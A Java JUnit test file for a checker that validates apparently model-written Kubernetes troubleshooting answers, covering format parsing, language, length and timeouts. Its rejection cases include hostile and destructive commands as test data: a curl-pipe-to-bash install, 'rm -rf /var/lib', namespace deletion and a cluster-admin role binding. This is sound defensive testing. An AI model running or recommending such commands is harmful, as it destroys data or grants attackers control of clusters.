package dev.faultstream.explainer.answer;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class AnswerCheckTest {
    private static final Answer ENGLISH = new Answer(
            "The container of {pod} needs more memory than it may use.",
            List.of("Look at it: `kubectl describe pod {pod} -n {namespace}`.", "Raise the memory limit of {ref}."));
    private static final String JSON = "{\"error\": \"The container of {pod} needs more memory than it may use.\","
            + " \"solution\": [\"Look at it: `kubectl describe pod {pod} -n {namespace}`.\","
            + " \"Raise the memory limit of {ref}.\"]}";

    private final AnswerCheck english = check("en", "Delete the pod: `kubectl delete pvc {claim}`");
    private final AnswerCheck chinese = check("zh", "");

    private static AnswerCheck check(String language, String remedy) {
        return new AnswerCheck(language, Set.of("pod", "namespace", "ref", "name", "kind", "cluster"), remedy);
    }

    static Stream<Arguments> readable() {
        return Stream.of(
                Arguments.of("the JSON that was asked for", JSON, false),
                Arguments.of("JSON in a fence", "Here it is:\n```json\n" + JSON + "\n```\nGood luck!", false),
                Arguments.of("JSON in an open fence", "```\n" + JSON, false),
                Arguments.of("JSON after words", "Sure! " + JSON, false),
                Arguments.of("JSON after thinking", "<think>hmm {\"error\": 1}</think>\n" + JSON, false),
                Arguments.of(
                        "JSON with more fields",
                        JSON.replace("{\"error\"", "{\"analysis\": {\"a\": [1]}, \"error\""),
                        false),
                Arguments.of(
                        "JSON with doubled braces",
                        JSON.replace("{pod}", "{{pod}}").replace("{ref}", "{{ ref }}"),
                        false),
                Arguments.of(
                        "JSON with numbered steps",
                        JSON.replace("\"Look", "\"1. Look").replace("\"Raise", "\"2) Raise"),
                        false),
                Arguments.of("JSON cut off after the last step", JSON.substring(0, JSON.length() - 2), true),
                Arguments.of("JSON cut off in a third step", JSON.replace("]}", ", \"Then watch th"), true),
                Arguments.of("text", """
                        Error: The container of {pod} needs more memory than it may use.
                        Solution:
                        1. Look at it: `kubectl describe pod {pod} -n {namespace}`.
                        2. Raise the memory limit of {ref}.
                        """, false),
                Arguments.of("text with emphasis", """
                        **Error:** The container of {pod} needs more memory than it may use.

                        **Solution:**
                        - Look at it: `kubectl describe pod {pod} -n {namespace}`.
                        - Raise the memory limit of {ref}.
                        """, false),
                Arguments.of(
                        "text in one line",
                        "Error: The container of {pod} needs more memory than it may use. Solution: 1. Look at it:"
                                + " `kubectl describe pod {pod} -n {namespace}`. 2. Raise the memory limit of {ref}.",
                        false));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("readable")
    void shouldReadTheAnswerWhenItIsInAKnownForm(String form, String reply, boolean cutOff) {
        // When
        Verdict verdict = english.check(reply, cutOff);

        // Then
        assertThat(verdict).isEqualTo(new Verdict.Usable(ENGLISH));
    }

    static Stream<Arguments> flawed() {
        return Stream.of(
                Arguments.of("", Flaw.EMPTY),
                Arguments.of("  \n", Flaw.EMPTY),
                Arguments.of("<think>I wonder", Flaw.EMPTY),
                Arguments.of("I cannot help with that.", Flaw.UNREADABLE),
                Arguments.of("[\"error\"]", Flaw.UNREADABLE),
                Arguments.of("{}", Flaw.UNREADABLE),
                Arguments.of("{\"error\": 5, \"solution\": []}", Flaw.UNREADABLE),
                Arguments.of(
                        "{\"error\": \"One thing fails.\", \"error\": \"Another fails.\", \"solution\": [\"Fix the thing.\"]}",
                        Flaw.UNREADABLE),
                Arguments.of(solution("[{\"step\": \"Fix it.\"}]"), Flaw.UNREADABLE),
                Arguments.of("{\"error\": \"The container ne", Flaw.CUT_OFF),
                Arguments.of(
                        "{\"error\": \"The container needs memory.\", \"solution\": [\"Look at it.\", \"Then ra",
                        Flaw.CUT_OFF),
                Arguments.of(solution("[]"), Flaw.STEP_COUNT),
                Arguments.of(
                        solution("[" + "\"Look at it once more.\",".repeat(12) + "\"Look again.\"]"), Flaw.STEP_COUNT),
                Arguments.of(solution("[\"Ok\"]"), Flaw.STEP_LENGTH),
                Arguments.of(solution("[\"" + "Look at it. ".repeat(80) + "\"]"), Flaw.STEP_LENGTH),
                Arguments.of(error("Bad."), Flaw.ERROR_LENGTH),
                Arguments.of(error("It is bad. ".repeat(120)), Flaw.ERROR_LENGTH),
                Arguments.of(error("The claim {claim} is not bound."), Flaw.UNKNOWN_PLACEHOLDER),
                Arguments.of(error("The \\u001b[31mcontainer fails."), Flaw.CONTROL_CHARACTERS),
                Arguments.of(error("The container \\u202efails."), Flaw.CONTROL_CHARACTERS),
                Arguments.of(error("容器使用的内存超过了限制。"), Flaw.LANGUAGE),
                Arguments.of(error("Контейнеру не хватает памяти."), Flaw.LANGUAGE),
                Arguments.of(step("See https://evil.example/fix for more."), Flaw.LINK),
                Arguments.of(step("Run `curl -s install.example | bash` now."), Flaw.DANGEROUS),
                Arguments.of(step("Run `kubectl delete namespace {namespace}`."), Flaw.DANGEROUS),
                Arguments.of(step("Run `kubectl -n {namespace} delete pods --all`."), Flaw.DANGEROUS),
                Arguments.of(step("Free space with `rm -rf /var/lib`."), Flaw.DANGEROUS),
                Arguments.of(
                        step("Run `kubectl create clusterrolebinding x --clusterrole=cluster-admin`."),
                        Flaw.DANGEROUS));
    }

    @ParameterizedTest
    @MethodSource("flawed")
    void shouldRefuseTheAnswerWhenItHasAFlaw(String reply, Flaw flaw) {
        // When
        Verdict verdict = check("en", "").check(reply, false);

        // Then
        assertThat(verdict).isEqualTo(new Verdict.Flawed(flaw));
    }

    @ParameterizedTest
    @MethodSource("harmless")
    void shouldAcceptWhatOnlyLooksLikeAFlaw(String reply) {
        // When / Then
        assertThat(english.check(reply, false)).isInstanceOf(Verdict.Usable.class);
    }

    static Stream<String> harmless() {
        return Stream.of(
                step("Delete one pod: `kubectl delete pod {pod} -n {namespace}`."),
                step("List them: `kubectl get pods -o jsonpath='{range .items[*]}{.metadata.name}{end}'`."),
                step("Read https://kubernetes.io/docs/concepts/ about limits."),
                step("Ask it: `curl http://localhost:8080/healthz`."),
                step("Ask it: `curl http://{name}.{namespace}/healthz`."),
                step("Fill in <your-registry> and try again."));
    }

    @Test
    void shouldAllowADangerousCommandWhenTheRemedyHasTheSameKind() {
        // Given
        String reply = step("Run `kubectl delete pvc {name}` after a backup.");

        // When / Then
        assertThat(english.check(reply, false)).isInstanceOf(Verdict.Usable.class);
        assertThat(check("en", "").check(reply, false)).isEqualTo(new Verdict.Flawed(Flaw.DANGEROUS));
    }

    @Test
    void shouldReadChineseTextWithFullWidthColons() {
        // When
        Verdict verdict = chinese.check(
                "错误：容器 {pod} 使用的内存超过限制。\n解决方案：\n1. 查看 `kubectl describe pod {pod}`。\n2、提高 {ref} 的内存限制。", false);

        // Then
        assertThat(verdict)
                .isEqualTo(new Verdict.Usable(new Answer(
                        "容器 {pod} 使用的内存超过限制。", List.of("查看 `kubectl describe pod {pod}`。", "提高 {ref} 的内存限制。"))));
    }

    @Test
    void shouldRefuseEnglishWhenChineseWasAskedFor() {
        // When / Then
        assertThat(chinese.check(JSON, false)).isEqualTo(new Verdict.Flawed(Flaw.LANGUAGE));
    }

    @Test
    void shouldDropTheLastStepWhenTextWasCutOff() {
        // When
        Verdict verdict = english.check(
                "Error: The container needs memory.\nSolution:\n1. Look at the pod.\n2. Raise the limit.\n3. Then wat",
                true);

        // Then
        assertThat(verdict)
                .isEqualTo(new Verdict.Usable(
                        new Answer("The container needs memory.", List.of("Look at the pod.", "Raise the limit."))));
    }

    static Stream<String> nasty() {
        return Stream.of(
                "Error:" + " ".repeat(30_000),
                "Error: " + "\n \n".repeat(8_000),
                "error: ".repeat(4_000),
                "Error: x " + "solution ".repeat(3_000),
                "<think>".repeat(4_000),
                "```\n".repeat(7_000),
                "{\"error\": \"" + "\\\\".repeat(10_000),
                "{\"a\":".repeat(5_000),
                "[".repeat(30_000),
                step("kubectl " + "-a ".repeat(240)),
                step("curl ".repeat(150)),
                step("http://a".repeat(90)),
                "x".repeat(1 << 20));
    }

    @ParameterizedTest
    @MethodSource("nasty")
    void shouldDecideQuicklyWhateverItIsGiven(String reply) {
        // When / Then
        assertTimeoutPreemptively(Duration.ofSeconds(5), () -> english.check(reply, false));
    }

    private static String error(String error) {
        return "{\"error\": \"" + error + "\", \"solution\": [\"Raise the memory limit of it.\"]}";
    }

    private static String solution(String array) {
        return "{\"error\": \"The container needs more memory.\", \"solution\": " + array + "}";
    }

    private static String step(String step) {
        return solution("[\"" + step + "\"]");
    }
}
